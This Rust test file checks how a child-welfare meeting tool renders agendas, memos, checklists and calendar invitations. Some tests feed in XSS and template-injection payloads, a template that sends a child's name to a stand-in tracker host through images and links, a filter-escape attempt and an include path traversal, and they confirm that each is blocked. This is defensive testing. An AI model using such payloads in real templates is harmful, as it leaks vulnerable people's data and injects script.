//! `lsk render`: documents, refusals, overrides, HTML.

use crate::common::*;

/// A document without lsk's header (its first paragraph).
fn body(text: &str) -> &str {
    text.split_once("\n\n").map_or(text, |(_, rest)| rest)
}

#[test]
fn agenda_follows_the_model_and_is_reproducible() {
    let env = env_with(DAYCARE);
    let run = render(&env, &["agenda", DIR]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("agenda.md"));
    let first = env.read(&format!("{DIR}/agenda.md"));
    let order = [
        "# Agenda: Meeting of the family, daycare and child welfare",
        "Tue 10 Nov 2026, 13:00",
        "Introductions",
        "Goal",
        "child-welfare process",
        "Time available",
        "Records and consent",
        "Everyone's topics",
        "What is going well",
        "The child's part",
        "Summary and responsibilities",
        "Telling the child",
        "Evaluation",
        "Next meeting",
    ];
    let mut at = 0;
    for part in order {
        let found = first[at..]
            .find(part)
            .unwrap_or_else(|| panic!("{part} after {at}:\n{first}"));
        at += found;
    }
    assert!(
        first.contains("Robin is not present"),
        "absent child's voice"
    );
    assert!(
        first
            .lines()
            .last()
            .unwrap()
            .starts_with("<!-- lsk-render source=")
    );
    // Same input, same bytes.
    assert_eq!(render(&env, &["agenda", DIR]).code, 0);
    assert_eq!(env.read(&format!("{DIR}/agenda.md")), first);
    // Rendered from the current meeting.md: not stale.
    assert!(!env.check(&[]).has("stale-render"));
}

#[test]
fn stale_after_meeting_changes_and_fresh_after_render() {
    let env = env_with(DAYCARE);
    render(&env, &["memo", DIR]);
    env.meeting(
        "2026-11-10-daycare",
        &edit(DAYCARE, "It went well", "It went very well"),
    );
    let run = env.check(&[]);
    let f = run.find("stale-render", "").expect("stale");
    assert_eq!(f["file"], format!("{DIR}/memo.md"));
    render(&env, &["memo", DIR]);
    assert!(!env.check(&[]).has("stale-render"));
}

#[test]
fn hand_edits_are_kept_unless_forced() {
    let env = env_with(DAYCARE);
    render(&env, &["agenda", DIR]);
    let path = format!("{DIR}/agenda.md");
    let edited = env
        .read(&path)
        .replace("Introductions", "Welcome and introductions");
    env.write(&path, &edited);
    let run = render(&env, &["agenda", DIR]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("--force"), "{}", run.stderr);
    assert_eq!(env.read(&path), edited);
    // A file lsk never wrote counts as hand-made.
    env.write(&format!("{DIR}/child-checklist.md"), "my own notes\n");
    assert_eq!(render(&env, &["child-checklist", DIR]).code, 2);
    assert_eq!(
        env.read(&format!("{DIR}/child-checklist.md")),
        "my own notes\n"
    );
    let run = render(&env, &["agenda", DIR, "--force"]);
    assert_eq!(run.code, 0);
    assert!(env.read(&path).contains("## 1. Introductions"));
}

#[test]
fn memo_needs_a_complete_meeting_or_a_draft_mark() {
    let env = env_with(&drop_key(DAYCARE, "evaluation"));
    let run = render(&env, &["memo", DIR]);
    assert_eq!(run.code, 1);
    // Findings on stderr, with what was not written and the way out.
    assert!(run.stderr.contains("missing-field"), "{}", run.stderr);
    assert!(run.stderr.contains("evaluation"));
    assert!(
        run.stderr.contains("memo.md was not written")
            && run
                .stderr
                .contains(&format!("`lsk render memo {DIR} --draft`")),
        "{}",
        run.stderr
    );
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    assert!(!env.join(&format!("{DIR}/memo.md")).exists());
    let run = render(&env, &["memo", DIR, "--draft"]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert!(env.read(&format!("{DIR}/memo.md")).contains("**DRAFT**"));
    // In the case's language.
    let fi = Env::new();
    fi.write("lsk.yaml", &case_yaml("2021-03", "fi"));
    fi.meeting("2026-11-10-daycare", &drop_key(DAYCARE, "evaluation"));
    assert_eq!(render(&fi, &["memo", DIR, "--draft"]).code, 0);
    assert!(fi.read(&format!("{DIR}/memo.md")).contains("**LUONNOS**"));
}

#[test]
fn memo_records_what_was_agreed() {
    let text = edit(
        DAYCARE,
        "evaluation: It went well\n",
        "evaluation: It went well\ndissent:\n  - by: Pat Parent\n    view: Mornings are not the problem\nabsent:\n  - name: Dana Carer\n    update: Robin is settling in\n",
    );
    let env = env_with(&text);
    assert_eq!(render(&env, &["memo", DIR]).code, 0);
    let memo = env.read(&format!("{DIR}/memo.md"));
    for part in [
        "| Morning chart at home | Pat Parent | 1 Dec 2026 |",
        "Dissenting views",
        "**Pat Parent:** Mornings are not the problem",
        "Dana Carer (daycare staff). Update sent beforehand: Robin is settling in",
        "may be sent to the following recipients: the daycare centre",
        "Next meeting: Sun 10 Jan 2027.",
        "| Pat Parent |  |  |",
        "Robin likes the sandpit",
    ] {
        assert!(memo.contains(part), "{part}:\n{memo}");
    }
}

#[test]
fn a_copy_needs_consent_and_leaves_out_what_is_not_for_them() {
    let text = edit(
        DAYCARE,
        "    due: 2026-12-01\n",
        "    due: 2026-12-01\n  - action: Parent's own treatment appointment\n    owner: Pat Parent\n    not_for: [daycare]\n",
    );
    let text = edit(
        &text,
        "child_views: Robin likes the sandpit",
        "child_views:\n  text: Robin misses dad\n  not_for: [daycare]",
    );
    let env = env_with(&text);
    let run = render(&env, &["memo", DIR, "--for", "school"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("consent"), "{}", run.stderr);
    // A draft would not be sent without consent either: not offered.
    assert!(!run.stderr.contains("--draft"), "{}", run.stderr);
    assert!(!env.join(&format!("{DIR}/memo.school.md")).exists());
    let run = render(&env, &["memo", DIR, "--for", "daycare"]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let copy = env.read(&format!("{DIR}/memo.daycare.md"));
    assert!(copy.contains("Morning chart at home"));
    assert!(!copy.contains("treatment"), "{copy}");
    assert!(!copy.contains("misses dad"));
    assert!(copy.contains("Copy for the daycare centre"));
    // The full memo keeps everything.
    render(&env, &["memo", DIR]);
    let full = env.read(&format!("{DIR}/memo.md"));
    assert!(full.contains("treatment") && full.contains("misses dad"));
    // A copy for the consented recipient is not a consent finding.
    assert!(!env.check(&[]).has("consent"));
    assert_eq!(render(&env, &["agenda", DIR, "--for", "daycare"]).code, 2);
}

#[test]
fn identity_codes_never_reach_a_document() {
    let text = edit(
        DAYCARE,
        "Robin likes the sandpit",
        "Robin 131052-308T likes the sandpit",
    );
    let env = env_with(&text);
    let run = render(&env, &["memo", DIR, "--for", "daycare", "--draft"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("identity-code"), "{}", run.stderr);
    assert!(!env.join(&format!("{DIR}/memo.daycare.md")).exists());
    // Every document waits until meeting.md is clean, even one whose
    // fields do not show the code.
    let agenda = render(&env, &["agenda", DIR]);
    assert_eq!(agenda.code, 1, "{}", agenda.stderr);
    assert!(agenda.stderr.contains("identity-code"));
    assert!(!env.join(&format!("{DIR}/agenda.md")).exists());
}

#[test]
fn meeting_text_is_data_not_template_or_html() {
    let text = edit(
        DAYCARE,
        "goal: Agree how daycare supports Robin's mornings",
        "goal: \"{{ 7 * 7 }} {% if true %}x{% endif %} <script>alert(1)</script> [click](javascript:alert(1))\"",
    );
    let env = env_with(&text);
    assert_eq!(render(&env, &["agenda", DIR, "--stdout"]).code, 0);
    let md = render(&env, &["agenda", DIR, "--stdout"]).stdout;
    assert!(md.contains("{{ 7 \\* 7 }}"), "{md}");
    assert!(!md.contains("49"));
    let run = render(&env, &["agenda", DIR, "--html"]);
    assert_eq!(run.code, 0);
    let html = env.read(&format!("{DIR}/agenda.html"));
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains("size: A4"));
    assert!(!html.contains("<script>"));
    assert!(html.contains("&lt;script&gt;"));
    assert!(!html.contains("href=\"javascript"));
    assert!(
        !env.join(&format!("{DIR}/agenda.md")).exists(),
        "--html writes .html only"
    );
}

#[test]
fn stdout_writes_nothing() {
    let env = env_with(DAYCARE);
    let run = render(&env, &["child-checklist", DIR, "--stdout"]);
    assert_eq!(run.code, 0);
    assert!(
        run.stdout
            .contains("# Preparing and informing the child: Robin")
    );
    assert!(!run.stdout.contains("lsk-render"));
    assert!(!env.join(&format!("{DIR}/child-checklist.md")).exists());
}

#[test]
fn dates_as_people_write_them() {
    for (lang, when) in [
        ("fi", "ti 10.11.2026 klo 13.00"),
        ("sv", "tis 10.11.2026 kl. 13.00"),
        ("en", "Tue 10 Nov 2026, 13:00"),
    ] {
        let env = Env::new();
        env.write("lsk.yaml", &case_yaml("2021-03", lang));
        env.meeting("2026-11-10-daycare", DAYCARE);
        let run = render(&env, &["agenda", DIR, "--stdout"]);
        assert!(run.stdout.contains(when), "{lang}: {}", run.stdout);
    }
}

#[test]
fn family_group_conference_and_follow_up_shapes() {
    let env = Env::case("2014-01");
    env.meeting("2026-11-10-family-group-conference", FGC);
    let run = render(
        &env,
        &[
            "agenda",
            "meetings/2026-11-10-family-group-conference",
            "--stdout",
        ],
    );
    let a = &run.stdout;
    let order = [
        "Information and concerns from the workers",
        "The child's wishes",
        "Private family time",
        "The plan is presented",
        "The social worker's evaluation",
        "Follow-up",
    ];
    let mut at = 0;
    for part in order {
        at += a[at..].find(part).unwrap_or_else(|| panic!("{part}:\n{a}"));
    }
    let follow_up = edit(FGC, "kind: family-group-conference", "kind: fgc-follow-up");
    let follow_up = edit(
        &follow_up,
        "\ntopics:",
        "\nreview:\n  - action: Rota of evenings\n    owner: Uncle Lee\n    status: done\ntopics:",
    );
    env.meeting("2026-12-10-fgc-follow-up", &follow_up);
    let run = render(
        &env,
        &["agenda", "meetings/2026-12-10-fgc-follow-up", "--stdout"],
    );
    let a = &run.stdout;
    // It starts from the plan and how its actions went.
    let plan = a.find("## 2. The plan and how it has worked").expect(a);
    assert!(plan > a.find("**Goal:**").unwrap());
    assert!(a.contains("| Rota of evenings | Uncle Lee | done |"));
}

#[test]
fn checklist_fits_the_age() {
    for (born, expect) in [
        ("2024-06", "need not be told about the meeting beforehand"),
        ("2021-03", "Keep it short and concrete"),
        ("2016-01", "take part for part of the meeting"),
        ("2012-01", "be heard directly"),
    ] {
        let env = env_with(DAYCARE);
        env.write("lsk.yaml", &case_yaml(born, "en"));
        let run = render(&env, &["child-checklist", DIR, "--stdout"]);
        assert!(run.stdout.contains(expect), "{born}: {}", run.stdout);
        assert_eq!(
            run.stdout
                .contains("From 12 the child also has the right to be heard"),
            born <= "2014",
            "{born}"
        );
    }
    let run = render(&env_with(DAYCARE), &["child-checklist", DIR, "--stdout"]);
    assert!(
        run.stdout
            .contains("- [x] The child has been told who is coming.")
    );
    assert!(run.stdout.contains("| Dana Carer |"));
}

#[test]
fn templates_are_overridden_file_by_file() {
    let env = env_with(DAYCARE);
    let org = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(org.path().join("en")).unwrap();
    std::fs::write(
        org.path().join("en/agenda.md"),
        "ORG agenda for {{ child.name }}\n",
    )
    .unwrap();
    std::fs::write(org.path().join("memo.md"), "ORG memo\n").unwrap();
    let org_dir = org.path().to_str().unwrap();
    let run = render(&env, &["agenda", DIR, "--stdout", "--templates", org_dir]);
    assert_eq!(body(&run.stdout), "ORG agenda for Robin\n");
    // lsk's header with the confidentiality mark is not the template's: an
    // organisation's own template cannot leave it out.
    assert!(run.stdout.starts_with("**Confidential"), "{}", run.stdout);
    assert_eq!(
        body(&render(&env, &["memo", DIR, "--stdout", "--templates", org_dir]).stdout),
        "ORG memo\n"
    );
    // The case's own folder wins over the organisation's.
    env.write("templates/agenda.md", "CASE agenda\n");
    assert_eq!(
        body(&render(&env, &["agenda", DIR, "--stdout", "--templates", org_dir]).stdout),
        "CASE agenda\n"
    );
    // LSK_TEMPLATES works like --templates; unrelated files stay built in.
    let run = env
        .cmd(&["render", "memo", DIR, "--stdout"])
        .var("LSK_TEMPLATES", org_dir)
        .run();
    assert_eq!(body(&run.stdout), "ORG memo\n");
    let run = render(
        &env,
        &["child-checklist", DIR, "--stdout", "--templates", org_dir],
    );
    assert!(run.stdout.contains("# Preparing and informing the child"));
    // A mistake in a template is a clear error, not a half document.
    env.write("templates/agenda.md", "{{ m.gaol }}\n");
    let run = render(&env, &["agenda", DIR]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("template"), "{}", run.stderr);
    assert!(!env.join(&format!("{DIR}/agenda.md")).exists());
    // Includes cannot reach outside the template folders.
    env.write("templates/agenda.md", "{% include \"../lsk.yaml\" %}\n");
    assert_eq!(render(&env, &["agenda", DIR]).code, 2);
}

#[test]
fn not_a_meeting_is_exit_2() {
    let env = Env::case("2021-03");
    assert_eq!(render(&env, &["agenda", "meetings"]).code, 2);
    assert_eq!(render(&env, &["brochure", "."]).code, 2);
}

#[test]
fn invitation_letter_and_calendar_file() {
    let text = edit(
        DAYCARE,
        "    role: parent\n",
        "    role: parent\n    email: pat.parent@example.invalid\n",
    );
    let text = edit(
        &text,
        "    organisation: Child welfare\n",
        "    organisation: Child welfare\n    email: sam.worker@example.invalid\n",
    );
    let env = env_with(&text);
    let run = render(&env, &["invitation", DIR]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let letter = env.read(&format!("{DIR}/invitation.md"));
    assert!(letter.contains("# Invitation: Meeting of the family, daycare and child welfare"));
    assert!(letter.contains("Tue 10 Nov 2026, 13:00"));
    assert!(letter.contains("Agree how daycare supports Robin's mornings"));

    assert_eq!(render(&env, &["invitation", DIR, "--ics"]).code, 0);
    let bytes = std::fs::read(env.join(&format!("{DIR}/invitation.ics"))).unwrap();
    let ics = String::from_utf8(bytes).unwrap();
    // CRLF line ends everywhere, lines of at most 75 octets.
    assert!(ics.ends_with("END:VCALENDAR\r\n"));
    assert!(!ics.replace("\r\n", "").contains('\n'));
    assert!(ics.split("\r\n").all(|l| l.len() <= 75), "{ics}");
    // Parse it back: unfold, then NAME[;PARAMS]:VALUE.
    let unfolded = ics.replace("\r\n ", "");
    let props: Vec<(String, String)> = unfolded
        .split("\r\n")
        .filter(|l| !l.is_empty())
        .map(|l| {
            let (name, value) = l.split_once(':').expect("a property line");
            (name.to_owned(), value.to_owned())
        })
        .collect();
    let get = |n: &str| {
        props
            .iter()
            .filter(|(k, _)| k == n || k.starts_with(&format!("{n};")))
            .collect::<Vec<_>>()
    };
    let mut depth = 0i32;
    for (k, v) in &props {
        if k == "BEGIN" {
            depth += 1;
        } else if k == "END" {
            depth -= 1;
        }
        assert!(depth >= 0, "END before BEGIN at {v}");
    }
    assert_eq!(depth, 0);
    assert_eq!(get("VERSION")[0].1, "2.0");
    // The event's start and end (the VTIMEZONE rules have their own DTSTART).
    let start = get("DTSTART");
    assert!(
        start.iter().any(|p| **p
            == (
                "DTSTART;TZID=Europe/Helsinki".to_owned(),
                "20261110T130000".to_owned()
            )),
        "{start:?}"
    );
    assert_eq!(get("DTEND")[0].1, "20261110T140000");
    assert_eq!(
        get("DTSTAMP")[0].1,
        "20261122T000000Z",
        "when the file was made: --today / LSK_TODAY, midnight UTC"
    );
    assert!(
        get("TZID").iter().any(|(_, v)| v == "Europe/Helsinki"),
        "VTIMEZONE given"
    );
    let attendees = get("ATTENDEE");
    assert_eq!(attendees.len(), 2, "one per invitee with an email");
    assert!(
        attendees
            .iter()
            .any(|(k, v)| k.contains("CN=\"Pat Parent\"")
                && v == "mailto:pat.parent@example.invalid")
    );
    assert_eq!(get("ORGANIZER")[0].1, "mailto:sam.worker@example.invalid");
    assert_eq!(get("LOCATION")[0].1, "Daycare Centre Lark");
    // Calendars leave the case folder: no goal, no child's name.
    assert!(!ics.contains("Robin"), "{ics}");
    // Re-rendering the same meeting changes nothing and is allowed.
    assert_eq!(render(&env, &["invitation", DIR, "--ics"]).code, 0);
    assert_eq!(
        std::fs::read_to_string(env.join(&format!("{DIR}/invitation.ics"))).unwrap(),
        ics
    );
    assert!(!env.check(&[]).has("stale-render"));
    // A hand edit is kept.
    let edited = ics.replace("Daycare Centre Lark", "Town hall");
    env.write(&format!("{DIR}/invitation.ics"), &edited);
    assert_eq!(render(&env, &["invitation", DIR, "--ics"]).code, 2);
    // Summer time: +3.
    let summer = edit(&text, "date: 2026-11-10", "date: 2026-06-10");
    env.meeting("2026-11-10-daycare", &summer);
    let run = render(&env, &["invitation", DIR, "--ics", "--stdout"]);
    assert!(
        run.stdout
            .contains("DTSTART;TZID=Europe/Helsinki:20260610T130000"),
        "{}",
        run.stdout
    );
    // No time, no calendar entry.
    env.meeting("2026-11-10-daycare", &drop_key(&text, "time"));
    let run = render(&env, &["invitation", DIR, "--ics", "--stdout"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("time"));
    assert_eq!(render(&env, &["agenda", DIR, "--ics"]).code, 2);
}

/// Every document renders in every language from a meeting with hardly
/// anything filled in: the templates cope with every missing field (found
/// by fuzzing: the child checklist failed without `child_preparation`).
#[test]
fn every_document_renders_from_a_bare_meeting() {
    // Found by fuzzing too: an invitee whose role lsk does not know. And
    // every field of the wrong kind: a draft is still made.
    let wrong = "---\nkind: weird\ndate: 2026-13-45\ntime: 25:99\nduration_min: -5\nchild_attends: maybe\nchild_preparation: yes\nmemo_consent: all\nagreed: nothing\ninforming_child: [a, b]\ninvitees: Pat\ntopics: {a: b}\nnext_meeting: soon\n---\n";
    let mut texts: Vec<String> = ["daycare", "school", "family-group-conference", "fgc-follow-up"]
        .iter()
        .map(|kind| format!(
            "---\nkind: {kind}\ndate: 2026-11-10\ntime: 13:00\ninvitees:\n  - name: Pat Parent\n    role: siocal-worker\n  - name: Kim\n---\n"
        ))
        .collect();
    texts.push(wrong.to_owned());
    for text in &texts {
        let env = env_with(text);
        for lang in ["fi", "sv", "en"] {
            for args in [
                &["agenda"][..],
                &["memo", "--draft"],
                &["memo", "--draft", "--html"],
                &["child-checklist"],
                &["invitation"],
                &["invitation", "--ics"],
            ] {
                let mut all = args.to_vec();
                all.extend([DIR, "--stdout", "--lang", lang]);
                let run = render(&env, &all);
                // A document every participant receives is made only when
                // lsk can read its lists and records (a list that is not
                // one may hide a `not_for`): refused with findings (exit
                // 1) for the wrong one. The memo's draft is still made. An
                // invitation needs a date, a time and a place (none of the
                // bare meetings has a place).
                let expected = if (text == wrong && args[0] != "memo")
                    || (args[0] == "invitation" && args.len() == 1)
                {
                    1
                } else {
                    0
                };
                assert_eq!(run.code, expected, "{text} {lang} {args:?}: {}", run.stderr);
                if expected == 0 {
                    assert!(!run.stdout.is_empty());
                } else {
                    // The refusal names the file not written.
                    let file = if args.contains(&"--ics") {
                        "invitation.ics".to_owned()
                    } else {
                        format!("{}.md", args[0])
                    };
                    assert!(run.stderr.contains(&file), "{file}: {}", run.stderr);
                }
            }
        }
    }
}

/// An organisation's template that tries to send the child's name to
/// another host, every way Markdown and the template language allow.
const CALLING_OUT: &str = "# Agenda for {{ child.name }}\n\n\
![logo](https://tracker.example/a.png?name={{ child.name }})\n\n\
See [the leaflet](https://tracker.example/b?name={{ child.name }}) and <https://tracker.example/c>.\n\n\
<img src=\"https://tracker.example/d.png?name={{ child.name }}\">\n\n\
![by reference][r]\n\n\
[r]: https://tracker.example/e.png?name={{ child.name }}\n\n\
{{ ('![x](https://tracker.example/f.png?' ~ child.name ~ ')')|safe }}\n\n\
![inline](data:image/png;base64,iVBORw0KGgo=)\n";

#[test]
fn documents_cannot_call_out() {
    let env = env_with(DAYCARE);
    env.write("templates/agenda.md", CALLING_OUT);
    // A stray end of a block cannot close the filter around the template.
    let run = render(&env, &["agenda", DIR]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let md = env.read(&format!("{DIR}/agenda.md"));
    let run = render(&env, &["agenda", DIR, "--html"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let html = env.read(&format!("{DIR}/agenda.html"));
    assert!(html.contains("Agenda for Robin"), "{html}");
    for (what, text) in [("markdown", &md), ("html", &html)] {
        // No image and no link to another host, in any form a reader's
        // program would fetch or follow.
        for gone in [
            "a.png", "d.png", "e.png", "f.png", "](http", "<http", "<img",
        ] {
            assert!(!text.contains(gone), "{what}: {gone} in\n{text}");
        }
        // A link's words stay, its address as plain text.
        assert!(text.contains("the leaflet"), "{what}:\n{text}");
    }
    assert!(!html.contains("href="), "{html}");
    assert!(!html.contains("src=\"http"), "{html}");
    // The page's own policy: nothing from anywhere; its style by hash;
    // images only inline.
    let policy = html
        .split("http-equiv=\"Content-Security-Policy\" content=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap_or_else(|| panic!("no content policy:\n{html}"));
    assert!(policy.starts_with("default-src 'none';"), "{policy}");
    assert!(policy.contains("style-src 'sha256-"), "{policy}");
    assert!(policy.contains("img-src data:"), "{policy}");
    assert!(
        !policy.contains("unsafe") && !policy.contains("http"),
        "{policy}"
    );
    // The policy comes before anything it governs.
    assert!(html.find("Content-Security-Policy").unwrap() < html.find("<style>").unwrap());
    // The style's hash is the style's.
    let style = html
        .split("<style>")
        .nth(1)
        .unwrap()
        .split("</style>")
        .next()
        .unwrap();
    let digest = <sha2::Sha256 as sha2::Digest>::digest(style.as_bytes());
    let hash = lsk::render::html::base64(&digest);
    assert!(policy.contains(&format!("'sha256-{hash}'")), "{policy}");

    // A template that tries to close the filter block itself is refused.
    env.write(
        "templates/agenda.md",
        "{% endfilter %}![x](https://tracker.example/g.png){% filter upper %}\n",
    );
    let run = render(&env, &["agenda", DIR, "--stdout"]);
    assert!(!run.stdout.contains("g.png"), "{}", run.stdout);
}
